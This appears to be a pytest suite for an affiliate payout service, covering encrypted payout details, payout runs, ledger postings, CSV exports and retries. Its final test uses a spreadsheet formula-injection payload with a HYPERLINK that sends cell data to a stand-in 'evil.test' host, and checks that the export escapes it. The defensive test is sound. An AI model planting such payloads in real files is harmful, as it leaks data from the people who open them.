from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select, text

from partnerloop.db import transaction
from partnerloop.ledger import service as ledger
from partnerloop.models import LedgerEntry, Payout, PayoutMethod
from tests.commission.factories import make_partner, make_plan
from tests.conftest import ProgramKeys
from tests.ledger.invariants import check_ledger
from tests.payout.helpers import assert_exactly_once, earn, partner_with_method, write_counts


def run(client: TestClient, program: ProgramKeys, **body: object) -> dict:  # type: ignore[type-arg]
    response = client.post("/api/v1/payouts/runs", json={"preview": False, **body}, headers=program.headers)
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


def test_payout_method_is_stored_encrypted_and_shown_masked(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    partner = make_partner(client, program)
    response = client.put(
        f"/api/v1/partners/{partner['id']}/payout-method",
        json={"type": "wise", "account_holder_name": "Pat P", "iban": "DE89 3704 0044 0532 0130 00", "currency": "eur",
              "tax": {"form": "w8ben", "legal_name": "Pat P GmbH", "country": "de", "tax_id": "DE123456789", "address": "Hauptstr. 1, Berlin"}},
        headers=program.headers,
    )  # fmt: skip
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["details"]["iban"].endswith("3000") and "3704" not in body["details"]["iban"]
    assert body["tax"]["tax_id"].endswith("6789") and "DE12345" not in body["tax"]["tax_id"]
    assert body["valid"] is True and body["currency"] == "eur"
    with transaction(engine, writes=False) as session:
        stored = session.execute(select(PayoutMethod)).scalar_one()
        raw = session.execute(text("SELECT details_encrypted, tax_encrypted FROM payout_methods")).one()
    assert "DE8937" not in raw[0] and "DE123456789" not in raw[1] and "Hauptstr" not in raw[1]
    assert stored.type == "wise"


def test_bad_payout_details_are_refused_and_change_nothing(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    partner = make_partner(client, program)
    url = f"/api/v1/partners/{partner['id']}/payout-method"
    cases = [
        ({"type": "bitcoin", "address": "x"}, 422, None),
        ({"type": "paypal", "email": "not-an-email"}, 422, "InvalidPayoutDetails"),
        ({"type": "wise", "account_holder_name": "P", "iban": "DE89370400440532013001"}, 422, "InvalidPayoutDetails"),
        ({"type": "paypal", "email": "pat@example.com", "currency": "inr"}, 422, "UnsupportedCurrency"),
        ({"type": "stripe_connect", "account_id": "bogus_123"}, 422, "InvalidPayoutDetails"),
    ]
    for body, status, error in cases:
        response = client.put(url, json=body, headers=program.headers)
        assert response.status_code == status, (body, response.text)
        if error:
            assert response.json()["error"] == error
    with transaction(engine, writes=False) as session:
        assert session.execute(select(PayoutMethod)).first() is None
    assert (
        client.put("/api/v1/partners/nope/payout-method", json={"type": "manual"}, headers=program.headers).status_code
        == 404
    )


def test_preview_writes_nothing_and_confirm_nets_thresholds_and_skips(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    rich = partner_with_method(client, program)
    earn(client, program, rich, 8000)
    earn(client, program, rich, 3000)
    earn(client, program, rich, -1500)  # a clawback nets the payout
    small = partner_with_method(client, program)
    earn(client, program, small, 2000)  # under the 5000 minimum: carried forward
    no_method = make_partner(client, program)["id"]
    earn(client, program, no_method, 9000)
    before = write_counts(engine)
    preview = client.post("/api/v1/payouts/runs", json={"preview": True}, headers=program.headers)
    assert preview.status_code == 200, preview.text
    body = preview.json()
    assert body["id"] is None and body["status"] == "preview"
    assert [(p["partner_id"], p["amount"], p["currency"], p["method"]) for p in body["payouts"]] == [
        (rich, 9500, "usd", "paypal")
    ]
    reasons = {s["partner_id"]: s["reason"] for s in body["skipped"]}
    assert "Below the minimum" in reasons[small] and "No payout method" in reasons[no_method]
    assert write_counts(engine) == before

    confirmed = run(client, program, run_key=body["run_key"])
    assert confirmed["status"] == "confirmed" and confirmed["id"]
    [payout] = confirmed["payouts"]
    assert payout["amount"] == 9500 and payout["status"] == "pending" and payout["commission_count"] == 3
    assert {s["partner_id"] for s in confirmed["skipped"]} == {small, no_method}
    balance = client.get(f"/api/v1/partners/{rich}/balance", headers=program.headers)
    usd = next(b for b in balance.json()["data"] if b["currency"] == "usd")
    assert usd["available_amount"] == 0 and usd["paid_amount"] == 9500
    after = write_counts(engine)
    again = client.post(
        "/api/v1/payouts/runs", json={"preview": False, "run_key": body["run_key"]}, headers=program.headers
    )
    assert again.status_code == 409 and again.json()["error"] == "RunAlreadyConfirmed"
    assert write_counts(engine) == after
    assert_exactly_once(engine, program.id)


def test_a_run_posts_one_balanced_ledger_transaction_per_payout_and_only_once(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    first, second = partner_with_method(client, program), partner_with_method(client, program)
    earn(client, program, first, 8000)
    earn(client, program, first, -500)
    earn(client, program, second, 6000)
    confirmed = run(client, program)
    with transaction(engine, writes=False) as session:
        entries = list(
            session.execute(
                select(LedgerEntry)
                .join(Payout, Payout.id == LedgerEntry.payout_id)
                .where(Payout.run_id == confirmed["id"])
            ).scalars()
        )
    by_transaction: dict[str, list[tuple[str, str, int]]] = {}
    for entry in entries:
        by_transaction.setdefault(entry.transaction_id, []).append((entry.partner_id, entry.account, entry.amount))
    assert sorted(sorted(postings) for postings in by_transaction.values()) == sorted(
        [
            sorted([(first, "partner_approved", -7500), (first, "partner_paid", 7500)]),
            sorted([(second, "partner_approved", -6000), (second, "partner_paid", 6000)]),
        ]
    )
    assert len({entry.id for entry in entries}) == 4 and all(len(entry.id) == 26 for entry in entries)
    assert {entry.kind for entry in entries} == {"paid"}
    with transaction(engine) as session, pytest.raises(ledger.RunAlreadyPosted):
        ledger.post_run_payouts(session, program_id=program.id, run_id=confirmed["id"])
    check_ledger(engine, program.id)
    assert_exactly_once(engine, program.id)


def test_run_on_an_empty_period_is_a_clear_error(client: TestClient, program: ProgramKeys, engine: Engine) -> None:
    before = write_counts(engine)
    response = client.post("/api/v1/payouts/runs", json={"preview": False}, headers=program.headers)
    assert response.status_code == 409 and response.json()["error"] == "NothingToPay"
    assert write_counts(engine) == before


def test_csv_exports_and_mark_paid(client: TestClient, program: ProgramKeys, engine: Engine) -> None:
    paypal = partner_with_method(client, program, {"type": "paypal", "email": "pat@example.com"})
    wise = partner_with_method(
        client,
        program,
        {"type": "wise", "account_holder_name": "Wim W", "iban": "GB82WEST12345698765432", "currency": "usd"},
    )
    earn(client, program, paypal, 12345)
    earn(client, program, wise, 6000)
    confirmed = run(client, program)
    paypal_csv = client.get(f"/api/v1/payouts/runs/{confirmed['id']}/export.csv?format=paypal", headers=program.headers)
    assert paypal_csv.status_code == 200 and paypal_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(paypal_csv.text)))
    paypal_payout = next(p for p in confirmed["payouts"] if p["partner_id"] == paypal)
    assert rows == [["pat@example.com", "123.45", "USD", paypal_payout["id"], "Acme payout", "PAYPAL"]]
    wise_csv = client.get(f"/api/v1/payouts/runs/{confirmed['id']}/export.csv?format=wise", headers=program.headers)
    wise_rows = list(csv.DictReader(io.StringIO(wise_csv.text)))
    assert wise_rows[0]["name"] == "Wim W" and wise_rows[0]["IBAN"] == "GB82WEST12345698765432"
    assert wise_rows[0]["amount"] == "60.00" and wise_rows[0]["targetCurrency"] == "USD"
    bad = client.get(f"/api/v1/payouts/runs/{confirmed['id']}/export.csv?format=swift", headers=program.headers)
    assert bad.status_code == 422 and bad.json()["error"] == "UnknownExportFormat"

    paid = client.post(
        f"/api/v1/payouts/{paypal_payout['id']}/mark-paid", json={"reference": "PP-1"}, headers=program.headers
    )
    assert paid.status_code == 200 and paid.json()["status"] == "paid" and paid.json()["provider_reference"] == "PP-1"
    assert (
        client.post(
            f"/api/v1/payouts/{paypal_payout['id']}/mark-paid", json={"reference": "PP-1"}, headers=program.headers
        ).status_code
        == 200
    )
    other = client.post(
        f"/api/v1/payouts/{paypal_payout['id']}/mark-paid", json={"reference": "PP-2"}, headers=program.headers
    )
    assert other.status_code == 409
    listed = client.get(f"/api/v1/payouts?partner_id={paypal}", headers=program.headers).json()
    assert [p["status"] for p in listed["data"]] == ["paid"]
    statement = client.get(f"/api/v1/partners/{paypal}/statement.csv", headers=program.headers)
    lines = list(csv.DictReader(io.StringIO(statement.text)))
    assert (
        lines[0]["payout_id"] == paypal_payout["id"]
        and lines[0]["earnings"] == "123.45"
        and lines[0]["reference"] == "PP-1"
    )
    report = client.get(
        "/api/v1/payouts/reports/yearly", params={"year": lines[0]["payout_date"][:4]}, headers=program.headers
    )
    assert report.status_code == 200
    [entry] = report.json()["data"]
    assert entry["partner_id"] == paypal and entry["paid_amount"] == 12345 and entry["over_1099_threshold"] is False
    assert_exactly_once(engine, program.id)


def test_failed_payout_returns_commissions_and_can_be_retried(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    partner = partner_with_method(client, program, {"type": "manual", "instructions": "cheque"})
    earn(client, program, partner, 7000)
    [payout] = run(client, program)["payouts"]
    failed = client.post(
        f"/api/v1/payouts/{payout['id']}/mark-failed", json={"reason": "bank bounced"}, headers=program.headers
    )
    assert failed.status_code == 200 and failed.json()["status"] == "failed"
    assert_exactly_once(engine, program.id)
    retried = client.post(f"/api/v1/payouts/{payout['id']}/retry", headers=program.headers)
    assert retried.status_code == 201, retried.text
    assert retried.json()["amount"] == 7000 and retried.json()["retry_of_id"] == payout["id"]
    assert client.post(f"/api/v1/payouts/{payout['id']}/retry", headers=program.headers).status_code == 409
    assert_exactly_once(engine, program.id)
    # a refund after payout: a negative commission the next run nets
    client.post(
        f"/api/v1/payouts/{retried.json()['id']}/mark-paid", json={"reference": "CHQ-1"}, headers=program.headers
    )
    earn(client, program, partner, -2000)
    earn(client, program, partner, 9000)
    [next_payout] = run(client, program)["payouts"]
    assert next_payout["amount"] == 7000
    assert_exactly_once(engine, program.id)


def test_payouts_are_scoped_to_their_program(
    client: TestClient, program: ProgramKeys, other_program: ProgramKeys
) -> None:
    partner = partner_with_method(client, program)
    earn(client, program, partner, 7000)
    [payout] = run(client, program)["payouts"]
    assert client.get(f"/api/v1/payouts/{payout['id']}", headers=other_program.headers).status_code == 404
    assert (
        client.post(
            f"/api/v1/payouts/{payout['id']}/mark-paid", json={"reference": "x"}, headers=other_program.headers
        ).status_code
        == 404
    )


def tracked_sale(client: TestClient, program: ProgramKeys, partner_id: str, amount: int, invoice: str) -> dict:  # type: ignore[type-arg]
    """A lead and a sale of the partner's customer (Standard plan: 20% of sales); the sale commission."""
    code = client.get(f"/api/v1/partners/{partner_id}", headers=program.headers).json()["referral_code"]
    lead = client.post(
        "/api/v1/track/lead",
        json={"customer_external_id": f"cus_{invoice}", "referral_code": code},
        headers=program.headers,
    )
    assert lead.status_code == 200, lead.text
    sale = client.post(
        "/api/v1/track/sale",
        json={"customer_external_id": f"cus_{invoice}", "amount": amount, "currency": "usd", "invoice_id": invoice},
        headers=program.headers,
    )
    assert sale.status_code == 200, sale.text
    [commission] = [row for row in sale.json()["commissions"] if row["kind"] == "sale"]
    return commission  # type: ignore[no-any-return]


def available(client: TestClient, program: ProgramKeys, partner_id: str) -> int:
    balance = client.get(f"/api/v1/partners/{partner_id}/balance", headers=program.headers).json()["data"]
    return int(next(row for row in balance if row["currency"] == "usd")["available_amount"])


def test_a_manager_approval_inside_the_hold_is_paid_by_the_next_run_exactly_as_the_balance_shows(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    make_plan(client, program)
    partner = partner_with_method(client, program)
    commission = tracked_sale(client, program, partner, 30000, "in_1")  # 6000 earned, held for 30 days
    assert commission["status"] == "pending"
    approved = client.post(f"/api/v1/commissions/{commission['id']}/approve", headers=program.headers)
    assert approved.status_code == 200, approved.text
    assert approved.json()["explanation_data"]["hold_ended"]["by"].startswith("api_key:")
    refund = client.post("/api/v1/track/refund", json={"invoice_id": "in_1", "amount": 5000}, headers=program.headers)
    assert refund.status_code == 200, refund.text  # its reversal (-1000) follows the approval: netted now
    shown = available(client, program, partner)
    assert shown == 5000

    preview = client.post("/api/v1/payouts/runs", json={"preview": True}, headers=program.headers).json()
    assert [(p["partner_id"], p["amount"], p["commission_count"]) for p in preview["payouts"]] == [(partner, shown, 2)]
    confirmed = run(client, program)
    assert [(p["partner_id"], p["amount"], p["commission_count"]) for p in confirmed["payouts"]] == [
        (partner, shown, 2)
    ]
    assert available(client, program, partner) == 0
    listed = client.get(f"/api/v1/commissions?partner_id={partner}&status=paid", headers=program.headers).json()
    assert {row["id"] for row in listed["data"]} >= {commission["id"]}
    check_ledger(engine, program.id)
    assert_exactly_once(engine, program.id)


def test_a_preview_counts_the_commissions_the_confirmed_run_pays(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    partner = partner_with_method(client, program)
    for amount in (3000, 2500, -500, 4000):
        earn(client, program, partner, amount)
    [previewed] = client.post("/api/v1/payouts/runs", json={"preview": True}, headers=program.headers).json()["payouts"]
    [confirmed] = run(client, program)["payouts"]
    assert (previewed["amount"], previewed["commission_count"]) == (confirmed["amount"], confirmed["commission_count"])
    assert confirmed["commission_count"] == 4 and confirmed["amount"] == 9000


def test_each_skipped_partner_is_told_every_reason_it_is_not_paid(
    client: TestClient, program: ProgramKeys, engine: Engine
) -> None:
    small_without_method = make_partner(client, program)["id"]
    earn(client, program, small_without_method, 2000)
    rich_without_method = make_partner(client, program)["id"]
    earn(client, program, rich_without_method, 9000)
    small_with_method = partner_with_method(client, program)
    earn(client, program, small_with_method, 2000)
    preview = client.post("/api/v1/payouts/runs", json={"preview": True}, headers=program.headers).json()
    reasons = {s["partner_id"]: s["reason"] for s in preview["skipped"]}
    assert "Below the minimum" in reasons[small_without_method] and "No payout method" in reasons[small_without_method]
    assert (
        "Below the minimum" not in reasons[rich_without_method] and "No payout method" in reasons[rich_without_method]
    )
    assert "Below the minimum" in reasons[small_with_method] and "No payout method" not in reasons[small_with_method]
    listed = {s["partner_id"]: s["reasons"] for s in preview["skipped"]}
    assert len(listed[small_without_method]) == 2 and len(listed[rich_without_method]) == 1


def test_a_payout_file_never_hands_a_spreadsheet_a_formula(client: TestClient, program: ProgramKeys) -> None:
    """The account holder's name is the partner's own text: a spreadsheet opening the Wise file reads it as text."""
    attack = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    wise = partner_with_method(
        client,
        program,
        {"type": "wise", "account_holder_name": attack, "iban": "GB82WEST12345698765432", "currency": "usd"},
    )
    earn(client, program, wise, 6000)
    confirmed = run(client, program)
    wise_csv = client.get(f"/api/v1/payouts/runs/{confirmed['id']}/export.csv?format=wise", headers=program.headers)
    assert wise_csv.status_code == 200, wise_csv.text
    [row] = list(csv.DictReader(io.StringIO(wise_csv.text)))
    assert row["name"] == "'" + attack  # shown as text; the apostrophe is not part of the cell's value
    assert row["amount"] == "60.00"  # numbers stay numbers
    for cells in csv.reader(io.StringIO(wise_csv.text)):
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
